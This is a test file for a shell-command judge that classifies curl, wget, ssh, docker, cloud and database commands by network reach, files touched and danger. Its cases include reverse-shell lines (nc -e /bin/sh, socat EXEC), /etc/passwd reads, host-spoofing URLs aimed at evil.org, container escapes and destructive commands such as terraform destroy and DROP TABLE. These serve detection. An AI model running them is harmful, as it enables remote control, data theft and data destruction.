/** Programs that talk to other machines: whom they reach, which files go and come, what they would destroy. */
import { describe, expect, test } from 'vitest';
import { effectsOf, judge } from './judging.ts';

const fetches: readonly [line: string, effects: readonly string[]][] = [
  ['curl https://example.org/x', ['net example.org']],
  ['curl -sSf localhost:3000/health', ['net localhost']],
  ['curl -s http://127.0.0.1:8080', ['net 127.0.0.1']],
  ['curl http://[::1]:80/x', ['net [::1]']],
  ['curl -fsSL https://example.org/x', ['net example.org', 'net *']],
  ['curl https://me:pw@example.org/', ['net example.org']],
  ['curl https://good.org:80@evil.org/', ['net evil.org']],
  ['curl https://evil.org/?@good.org', ['net evil.org']],
  ['curl -X POST -d a=b https://example.org', ['net example.org']],
  ['curl -d @secret https://example.org', ['net example.org', 'read secret']],
  ['curl --data-binary=@- https://example.org', ['net example.org']],
  ['curl -F f=@photo.png https://example.org', ['net example.org', 'read photo.png']],
  ['curl --data-urlencode x@file https://example.org', ['net example.org', 'read file']],
  ['curl -H @headers https://example.org', ['net example.org', 'read headers']],
  ['curl -T up.txt https://example.org/', ['net example.org', 'read up.txt']],
  ['curl -b jar -c jar https://example.org', ['net example.org', 'read jar', 'write jar']],
  ['curl -b a=b https://example.org', ['net example.org']],
  ['curl -o out.html https://example.org', ['net example.org', 'write out.html']],
  ['curl -o - https://example.org', ['net example.org']],
  ['curl -O https://example.org/a/b.tar.gz', ['net example.org', 'write b.tar.gz']],
  ['curl --output-dir d -O https://example.org/b.zip', ['net example.org', 'write d/b.zip']],
  ['wget http://example.org/a/b.zip', ['net example.org', 'net *', 'write b.zip']],
  ['wget -q -O x http://example.org/', ['net example.org', 'net *', 'write x']],
  ['wget -qO- http://example.org/', ['net example.org', 'net *']],
  ['wget --no-hsts -P d https://example.org/b', ['net example.org', 'net *', 'write d/b']],
  ['wget https://example.org/b', ['net example.org', 'net *', 'write /home/me/.wget-hsts', 'write b']],
];

test.each(fetches)('all that %s does is known', (line, effects) => {
  const finding = judge(line);
  expect(finding).toMatchObject({ class: 'network', known: true });
  expect(effectsOf(finding)).toEqual(effects);
});

const powers: readonly [power: string, line: string][] = [
  ['options come from a file', 'curl -K config https://example.org'],
  ['the way leads over another host', 'curl -x proxy.org https://example.org'],
  ['the name means another host', 'curl --resolve a:80:1.2.3.4 http://a'],
  ['the connection goes elsewhere', 'curl --connect-to ::evil.org https://example.org'],
  ['a socket of this machine is the host', 'curl --unix-socket /var/run/docker.sock http://localhost/x'],
  ['the server names the file', 'curl -OJ https://example.org/x'],
  ['a format writes a file', "curl -w '%output{x}' https://example.org"],
  ['the file is another for each address', "curl -o 'f#1' https://example.org/[1-3]"],
  ['the name of the file is not plain', 'curl -O https://example.org/%2e%2e'],
  ['a list of files is sent', "curl -T '{a,/etc/passwd}' https://example.org"],
  ['a quoted name is taken apart', 'curl -F \'f=@"a;b"\' https://example.org'],
  ['the trace is a file', 'curl --trace t https://example.org'],
  ['passwords are sent', 'curl -n https://example.org'],
  ['a file is read', 'curl file:///etc/passwd'],
  ['a file is read, with one slash', 'curl file:/etc/passwd'],
  ['addresses come from a file', 'curl --url @list'],
  ['the host is a list', 'curl https://{a,b}.org/'],
  ['programs disagree about the host', "curl 'https://good.org\\@evil.org/'"],
  ['programs disagree about the host once more', "curl 'https://evil.org#@good.org/'"],
  ['another protocol is spoken', 'curl dict://localhost:6379/flushall'],
  ['the address is not known', 'curl $X'],
  ['an abbreviation', 'curl --outpu x https://example.org'],
  ['wget takes settings from the line', 'wget -e x=y http://example.org/b'],
  ['wget takes addresses from a file', 'wget -i list'],
  ['wget fetches a tree', 'wget -r http://example.org/b'],
  ['wget fetches without a name for the file', 'wget http://example.org/b?x=y'],
];

test.each(powers)('%s: %s is not known whole, and asks for the network', (_power, line) => {
  const finding = judge(line);
  expect(finding).toMatchObject({ class: 'network', known: false });
  expect(effectsOf(finding)).toContainEqual(expect.stringMatching(/^net /));
});

describe('others are never known whole', () => {
  const others: readonly [line: string, effects: readonly string[]][] = [
    ['ssh example.org', ['net example.org']],
    ['ssh -p 22 me@example.org ls -F', ['net example.org']],
    ['ssh $X', ['net *']],
    ['scp a.txt me@example.org:/tmp', ['net example.org', 'read a.txt']],
    ['scp example.org:x .', ['net example.org', 'write .']],
    ['rsync -av src/ example.org:dst/', ['net example.org', 'read src/']],
    ['rsync -e ssh -a host:a b', ['net host', 'write b']],
    ['dig example.org', ['net example.org']],
    ['ping -c 1 example.org', ['net example.org']],
    ['http GET https://example.org/x', ['net example.org']],
    ['nc example.org 80', ['net *']],
    ['kubectl get pods', ['net *']],
    ['aws s3 ls', ['net *']],
    ['terraform plan', ['net *']],
    ["psql -c 'select 1'", ['net *']],
    ['docker pull alpine', ['net *']],
  ];
  test.each(others)('%s', (line, effects) => {
    const finding = judge(line);
    expect(finding).toMatchObject({ class: 'network', known: false });
    expect(finding).not.toHaveProperty('danger');
    expect(effectsOf(finding)).toEqual(effects);
  });

  test('a container may have to be fetched before it runs', () => {
    expect(judge('docker run --rm alpine ls')).toMatchObject({ class: 'unknown', known: false });
    expect(effectsOf(judge('docker run --rm alpine ls'))).toEqual(['net *']);
    expect(effectsOf(judge('docker compose up -d'))).toEqual(['net *']);
    expect(effectsOf(judge('docker ps'))).toEqual([]);
  });

  test('rsync without another machine writes here, and removes with --delete', () => {
    expect(judge('rsync -a a/ b/')).toMatchObject({ class: 'write', known: false });
    expect(effectsOf(judge('rsync -a a/ b/'))).toEqual(['read a/', 'write b/']);
    expect(effectsOf(judge('rsync -a --delete a/ b/'))).toEqual(['read a/', 'remove b/']);
  });
});

const dangers: readonly [danger: string, lines: readonly string[]][] = [
  [
    'it deletes what is kept or runs elsewhere',
    [
      'kubectl delete pod x',
      'kubectl -n prod drain node1',
      'terraform destroy',
      'terraform apply -auto-approve',
      'pulumi up --yes',
      'aws s3 rm s3://b/x',
      'aws s3 rb s3://b',
      'aws s3 sync . s3://b --delete',
      'aws ec2 terminate-instances --instance-ids i',
      'aws iam delete-role --role-name x',
      'gcloud compute instances delete x',
      'az group delete -n x',
      'heroku apps:destroy x',
      'heroku pg:reset',
      'helm uninstall x',
      'gsutil rm gs://b/x',
      'rclone sync a b:c',
      'rsync -a --delete a/ host:b/',
    ],
  ],
  [
    'it deletes data from a database',
    ["psql -c 'DROP TABLE users'", "mysql -e 'truncate table x'", "psql -c 'delete from users'", 'redis-cli FLUSHALL'],
  ],
  ['it deletes a database or its users', ['dropdb app']],
  [
    'it removes containers or volumes with the data in them',
    [
      'docker system prune -af',
      'docker volume rm x',
      'docker volume prune',
      'docker compose down -v',
      'docker-compose down --volumes',
    ],
  ],
  [
    'it gives a container the whole machine',
    [
      'docker run -v /:/host alpine',
      'docker run --privileged alpine',
      'docker run --pid=host alpine',
      'docker run --mount type=bind,source=/,target=/h alpine',
      'docker run -v /var/run/docker.sock:/x alpine',
    ],
  ],
  [
    'it runs a program that an option names',
    [
      'ssh -o ProxyCommand=x h',
      'ssh -oLocalCommand=x h',
      'ssh -F cfg h',
      'scp -S ./x a h:b',
      'rsync -e ./x a h:b',
      'wget --use-askpass=x http://h/b',
    ],
  ],
  ['it lets another machine steer a program here', ['nc -e /bin/sh h 1', 'ncat --exec x h 1', 'socat TCP:h:1 EXEC:sh']],
];

describe.each(dangers)('%s', (danger, lines) => {
  test.each(lines)('%s', (line) => {
    expect(judge(line)).toMatchObject({ known: false, danger });
  });
});

test.each(["psql -c 'delete from users where id = 1'", 'docker run -v ./x:/x alpine', 'docker ps', 'ssh h rm x'])(
  '%s has no danger that is sure',
  (line) => {
    expect(judge(line)).not.toHaveProperty('danger');
  },
);
